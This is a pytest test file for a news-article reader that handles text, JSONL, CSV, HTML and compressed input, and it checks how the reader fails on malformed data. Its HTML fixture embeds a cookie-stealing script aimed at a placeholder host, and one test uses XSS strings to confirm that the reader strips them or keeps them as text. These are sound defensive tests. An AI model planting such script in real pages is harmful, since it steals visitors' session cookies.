"""Readers: every input format and every kind of bad input."""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest

from eventwire.readers import MAX_ARTICLE_BYTES, InputFailure, read_inputs
from eventwire.record import Document

BODY = "Iran's foreign minister met his Iraqi counterpart in Baghdad on Tuesday."


def read(paths: list[str], **kw: object) -> list[Document | InputFailure]:
    return list(read_inputs(paths, **kw))  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "content",
    [
        f"date 2024-11-02 {BODY}",
        f"date 2024-11-02\n{BODY}",
        f"  \n\t date 2024-11-02\n{BODY}\n",
        f"DATE 2024-11-02\r\n{BODY}",
    ],
)
def test_dated_text_header(tmp_path: Path, content: str) -> None:
    path = tmp_path / "a.txt"
    path.write_text(content, encoding="utf-8")
    [doc] = read([str(path)])
    assert isinstance(doc, Document)
    assert doc.article.published == "2024-11-02"
    assert doc.text.strip() == BODY


def test_plain_text_takes_date_option(tmp_path: Path) -> None:
    path = tmp_path / "plain.txt"
    path.write_text(BODY, encoding="utf-8")
    [doc] = read([str(path)], date="2023-05-06")
    assert isinstance(doc, Document)
    assert doc.article.published == "2023-05-06"
    assert doc.text == BODY
    [undated] = read([str(path)])
    assert isinstance(undated, Document) and undated.article.published is None


def test_header_wins_over_date_option(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_text(f"date 2024-11-02 {BODY}", encoding="utf-8")
    [doc] = read([str(path)], date="2020-01-01")
    assert isinstance(doc, Document) and doc.article.published == "2024-11-02"


def test_words_starting_with_date_are_not_a_header(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_text("Date palms were planted along the border.", encoding="utf-8")
    [doc] = read([str(path)])
    assert isinstance(doc, Document)
    assert doc.article.published is None
    assert doc.text.startswith("Date palms")


def test_jsonl(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    rows = [
        {"id": "x1", "published": "2024-11-02", "title": "T", "outlet": "Wire", "text": BODY},
        {"id": 7, "date": "2024-10-01T12:00:00Z", "text": BODY},
        {"text": BODY},
    ]
    path.write_text("\n".join(json.dumps(r) for r in rows) + "\n\n", encoding="utf-8")
    docs = read([str(path)], date="2000-01-01")
    assert [d.article.id for d in docs if isinstance(d, Document)][:2] == ["x1", "7"]
    assert [d.article.published for d in docs if isinstance(d, Document)] == [
        "2024-11-02",
        "2024-10-01",
        "2000-01-01",
    ]
    first = docs[0]
    assert isinstance(first, Document)
    assert (first.article.title, first.article.outlet) == ("T", "Wire")
    third = docs[2]
    assert isinstance(third, Document) and third.article.id.startswith("sha256:")


def test_content_id_is_stable(tmp_path: Path) -> None:
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_text(BODY, encoding="utf-8")
    b.write_text(BODY, encoding="utf-8")
    [da, db] = read([str(a), str(b)])
    assert isinstance(da, Document) and isinstance(db, Document)
    assert da.article.id == db.article.id


def test_directory_is_read_in_order_and_skips_hidden(tmp_path: Path) -> None:
    (tmp_path / "b.txt").write_text(f"date 2024-01-02 {BODY}", encoding="utf-8")
    (tmp_path / "a.jsonl").write_text(json.dumps({"id": "j", "text": BODY}), encoding="utf-8")
    (tmp_path / ".hidden.txt").write_text(BODY, encoding="utf-8")
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "c.txt").write_text(BODY + " More.", encoding="utf-8")
    docs = read([str(tmp_path)])
    assert len(docs) == 3
    assert all(isinstance(d, Document) for d in docs)
    assert docs[0].article.id == "j"  # type: ignore[union-attr]


def test_stdin_dated_text_and_jsonl() -> None:
    [doc] = read(["-"], stdin=io.BytesIO(f"date 2024-11-02\n{BODY}".encode()))
    assert isinstance(doc, Document) and doc.article.published == "2024-11-02"
    lines = b'{"id": "s1", "text": "One."}\n{"id": "s2", "text": "Two."}\n'
    docs = read(["-"], stdin=io.BytesIO(lines))
    assert [d.article.id for d in docs] == ["s1", "s2"]  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"", "empty"),
        (b"   \n\t  \n", "empty"),
        (b"date 2024-11-02\n   ", "empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary"),
        (b"caf\xe9 au lait \xff\xfe", "encoding"),
        (b"date 2024-13-45 Body text here.", "header"),
        (b"date 02/11/2024 Body text here.", "header"),
        (b"x" * (MAX_ARTICLE_BYTES + 1), "too_large"),
        (b"\x01\x02\x03\x04\x05 text" * 10, "binary"),
    ],
)
def test_bad_files_give_named_failures(tmp_path: Path, data: bytes, kind: str) -> None:
    path = tmp_path / "bad.txt"
    path.write_bytes(data)
    [item] = read([str(path)])
    assert isinstance(item, InputFailure)
    assert item.error.kind == kind
    assert str(path) in str(item.error)
    assert "\n" not in str(item.error)


def test_missing_file(tmp_path: Path) -> None:
    [item] = read([str(tmp_path / "nope.txt")])
    assert isinstance(item, InputFailure) and item.error.kind == "missing"


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        (b"{not json", "malformed"),
        (b'["a list"]', "malformed"),
        (b'{"id": "m", "title": "no text"}', "malformed"),
        (b'{"id": "m", "text": 42}', "malformed"),
        (b'{"id": "m", "text": "  "}', "empty"),
        (b'{"id": "m", "text": "ok", "published": "yesterday"}', "header"),
        (b'{"id": "m", "text": "ok", "title": {"a": 1}}', "malformed"),
    ],
)
def test_bad_jsonl_lines_do_not_stop_the_file(tmp_path: Path, line: bytes, kind: str) -> None:
    path = tmp_path / "a.jsonl"
    path.write_bytes(
        b'{"id": "good1", "text": "One."}\n' + line + b'\n{"id": "good2", "text": "Two."}\n'
    )
    items = read([str(path)])
    assert len(items) == 3
    assert isinstance(items[0], Document) and isinstance(items[2], Document)
    bad = items[1]
    assert isinstance(bad, InputFailure)
    assert bad.error.kind == kind
    assert bad.article["source"] == f"{path}:2"


def _jsonl(rows: list[dict[str, str]]) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in rows).encode()


def test_gzip_and_zstd(tmp_path: Path) -> None:
    import gzip

    import zstandard

    rows = [{"id": "z1", "text": BODY}, {"id": "z2", "text": BODY + " Again."}]
    (tmp_path / "a.jsonl.gz").write_bytes(gzip.compress(_jsonl(rows)))
    (tmp_path / "b.jsonl.zst").write_bytes(zstandard.ZstdCompressor().compress(_jsonl(rows)))
    (tmp_path / "c.txt.gz").write_bytes(gzip.compress(f"date 2024-11-02\n{BODY}".encode()))
    docs = read([str(tmp_path)])
    assert [d.article.id for d in docs][:4] == ["z1", "z2", "z1", "z2"]  # type: ignore[union-attr]
    last = docs[4]
    assert isinstance(last, Document) and last.article.published == "2024-11-02"


def test_truncated_gzip_keeps_what_was_read(tmp_path: Path) -> None:
    import gzip

    rows = [{"id": f"t{i}", "text": BODY} for i in range(200)]
    data = gzip.compress(_jsonl(rows))
    path = tmp_path / "cut.jsonl.gz"
    path.write_bytes(data[: len(data) // 2])
    items = read([str(path)])
    assert isinstance(items[-1], InputFailure) and items[-1].error.kind == "binary"
    assert all(isinstance(i, Document) for i in items[:-1])


def test_csv_with_a_text_column(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_text(
        'id,date,source,Body\n1,2019-04-10,Guardian,"Iraq and the US held talks, officials said."\n'
        '2,,Reuters,""\n3,2019-04-11,,"Protesters marched in Baghdad."\n',
        encoding="utf-8",
    )
    items = read([str(path)], date="2000-01-01")
    assert isinstance(items[0], Document)
    assert (items[0].article.id, items[0].article.published) == ("1", "2019-04-10")
    assert items[0].article.outlet == "Guardian"
    assert isinstance(items[1], InputFailure) and items[1].error.kind == "empty"
    assert items[1].article == {"source": f"{path}:3", "id": "2"}
    assert isinstance(items[2], Document) and items[2].text == "Protesters marched in Baghdad."


def test_csv_without_text_column(tmp_path: Path) -> None:
    path = tmp_path / "a.tsv"
    path.write_text("id\theadline\n1\tNothing here\n", encoding="utf-8")
    [item] = read([str(path)])
    assert isinstance(item, InputFailure) and item.error.kind == "malformed"
    assert "no text column" in str(item.error)


PAGE = """<!DOCTYPE html><html><head><title>Israel strikes Iran</title>
<meta name="date" content="2024-10-26"></head><body>
<nav>Home | World | Sport | Subscribe</nav>
<article><h1>Israel strikes Iran</h1>
<p>Israel struck military sites in Iran on Saturday, the army said in a statement.</p>
<p>Iran's foreign ministry condemned the strikes and said it reserved the right to respond.</p>
</article><footer>Copyright 2024 Example News. All rights reserved.</footer>
<script>document.location='http://example.invalid/'+document.cookie</script></body></html>"""


def test_html_page_is_reduced_to_main_text(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(PAGE, encoding="utf-8")
    [doc] = read([str(path)])
    assert isinstance(doc, Document)
    assert "Israel struck military sites" in doc.text
    assert "Subscribe" not in doc.text and "cookie" not in doc.text
    assert "Copyright" not in doc.text
    assert doc.article.title == "Israel strikes Iran"
    assert doc.article.published == "2024-10-26"


def test_html_with_only_boilerplate_is_empty(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text("<html><body><nav>Home</nav><script>x()</script></body></html>", "utf-8")
    [item] = read([str(path)])
    assert isinstance(item, InputFailure) and item.error.kind == "empty"


def test_tags_in_prose_stay_as_text(tmp_path: Path) -> None:
    text = 'The hacker posted <script>alert("x")</script> and <img src=x onerror=alert(1)> online.'
    path = tmp_path / "a.txt"
    path.write_text(text, encoding="utf-8")
    [doc] = read([str(path)])
    assert isinstance(doc, Document) and doc.text == text


def test_corrupt_zstd_gives_a_failure(tmp_path: Path) -> None:
    path = tmp_path / "bad.jsonl.zst"
    path.write_bytes(b"\x28\xb5\x2f\xfd" + b"\x00garbage" * 50)
    items = read([str(path)])
    assert isinstance(items[-1], InputFailure) and items[-1].error.kind == "binary"


def test_an_over_long_line_is_refused_and_the_next_read(tmp_path: Path) -> None:
    path = tmp_path / "a.jsonl"
    huge = json.dumps({"id": "huge", "text": "word " * (MAX_ARTICLE_BYTES // 2)})
    path.write_text(huge + "\n" + json.dumps({"id": "next", "text": BODY}) + "\n", "utf-8")
    first, second = read([str(path)])
    assert isinstance(first, InputFailure) and first.error.kind == "too_large"
    assert f"{len(huge) + 1:,} bytes" in str(first.error)
    assert isinstance(second, Document) and second.article.id == "next"


def test_stdin_jsonl_longer_than_the_first_read() -> None:
    rows = [{"id": f"s{i}", "text": f"{BODY} Number {i}."} for i in range(15_000)]
    data = b"".join(json.dumps(r).encode() + b"\n" for r in rows)
    assert len(data) > MAX_ARTICLE_BYTES  # the first read ends in the middle of a line
    docs = read(["-"], stdin=io.BytesIO(data))
    assert [d.article.id for d in docs] == [r["id"] for r in rows]  # type: ignore[union-attr]


def test_records_read_back(tmp_path: Path) -> None:
    import gzip

    from eventwire.readers.records import read_records
    from eventwire.record import ErrorRecord

    from .conftest import EXAMPLE

    [doc] = read([str(EXAMPLE)])
    assert isinstance(doc, Document)
    error = {"article": {"source": "x:2"}, "error": {"kind": "empty", "message": "x: empty"}}
    lines = [json.dumps(doc.to_dict()), json.dumps(error), "{not json"]
    path = tmp_path / "records.jsonl.gz"
    path.write_bytes(gzip.compress(("\n".join(lines) + "\n").encode()))
    first, second, third = read_records([str(path)])
    assert isinstance(first, Document) and first.to_dict() == doc.to_dict()
    assert isinstance(second, ErrorRecord) and second.kind == "empty"
    assert isinstance(third, InputFailure) and third.error.kind == "malformed"
    assert [type(r).__name__ for r in read_records([str(path)], keep_errors=False)] == [
        "Document",
        "InputFailure",
    ]


# -- one bad record is one error record (#19) --------------------------------------------------


def test_deeply_nested_json_line_is_one_error_record(tmp_path: Path) -> None:
    path = tmp_path / "nested.jsonl"
    lines = [
        json.dumps({"id": "before", "text": BODY}),
        "[" * 100_000,
        json.dumps({"id": "deep", "text": BODY, "extra": [[[[]]]]}),
        "{" + '"a": {' * 70_000,
        json.dumps({"id": "after", "text": BODY, "title": "[" * 500}),
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    items = read([str(path)])
    kinds = [i.article.id if isinstance(i, Document) else i.error.kind for i in items]
    assert kinds == ["before", "malformed", "deep", "malformed", "after"]
    assert items[1].article == {"source": f"{path}:2"}
    assert "nested" in str(items[3].error)  # type: ignore[union-attr]


def test_deeply_nested_json_on_stdin_and_in_records(tmp_path: Path) -> None:
    from eventwire.readers.records import read_records

    data = (json.dumps({"text": BODY}) + "\n" + '{"a":' * 50_000 + "\n").encode()
    items = read(["-"], stdin=io.BytesIO(data))
    assert isinstance(items[0], Document) and isinstance(items[1], InputFailure)
    path = tmp_path / "records.jsonl"
    path.write_bytes(data)
    *_, last = read_records([str(path)])
    assert isinstance(last, InputFailure) and last.error.kind == "malformed"


def test_csv_bad_byte_loses_only_its_row(tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(
        b'id,title,text\n1,One,"' + BODY.encode() + b'"\n2,Two,"caf\xe9 \xff au lait"\n'
        b'3,Three,"a quoted field\nover two lines"\n4,Four,"' + BODY.encode() + b'"\n'
    )
    items = read([str(path)])
    assert [i.article.id for i in items if isinstance(i, Document)] == ["1", "3", "4"]
    [bad] = [i for i in items if isinstance(i, InputFailure)]
    assert bad.error.kind == "encoding" and bad.article == {"source": f"{path}:3", "id": "2"}
    assert isinstance(items[2], Document) and items[2].text == "a quoted field\nover two lines"


def test_csv_bad_byte_in_the_id_or_header(tmp_path: Path) -> None:
    path = tmp_path / "bad.tsv"
    path.write_bytes(b"id\ttext\n\xff\t" + BODY.encode() + b"\n2\t" + BODY.encode() + b"\n")
    first, second = read([str(path)])
    assert isinstance(first, InputFailure) and first.article == {"source": f"{path}:2"}
    assert isinstance(second, Document) and second.article.id == "2"
    path.write_bytes(b"id\tte\xffxt\n1\t" + BODY.encode() + b"\n")
    [item] = read([str(path)])
    assert isinstance(item, InputFailure) and item.error.kind == "encoding"


@pytest.mark.parametrize("field", ["text", "title", "id", "outlet"])
def test_lone_surrogate_is_an_encoding_error(tmp_path: Path, field: str) -> None:
    path = tmp_path / "s.jsonl"
    record = {"id": "x", "text": BODY, field: "bad \ud800 here"}
    good = {"id": "y", "text": BODY}
    path.write_text(json.dumps(record) + "\n" + json.dumps(good) + "\n", encoding="utf-8")
    bad, ok = read([str(path)])
    assert isinstance(bad, InputFailure) and bad.error.kind == "encoding"
    assert isinstance(ok, Document)


@pytest.mark.parametrize("date", ["0001-01-01", "0999-12-31", "0000-01-01"])
def test_dates_before_year_1000_are_refused(tmp_path: Path, date: str) -> None:
    path = tmp_path / "d.jsonl"
    path.write_text(json.dumps({"text": BODY, "published": date}) + "\n", encoding="utf-8")
    [item] = read([str(path)])
    assert isinstance(item, InputFailure) and item.error.kind == "header"
    dated = tmp_path / "d.txt"
    dated.write_text(f"date {date}\n{BODY}", encoding="utf-8")
    [item] = read([str(dated)])
    assert isinstance(item, InputFailure) and item.error.kind == "header"
    ok = tmp_path / "ok.txt"
    ok.write_text(f"date 9999-12-31\n{BODY}", encoding="utf-8")
    [doc] = read([str(ok)])
    assert isinstance(doc, Document) and doc.article.published == "9999-12-31"
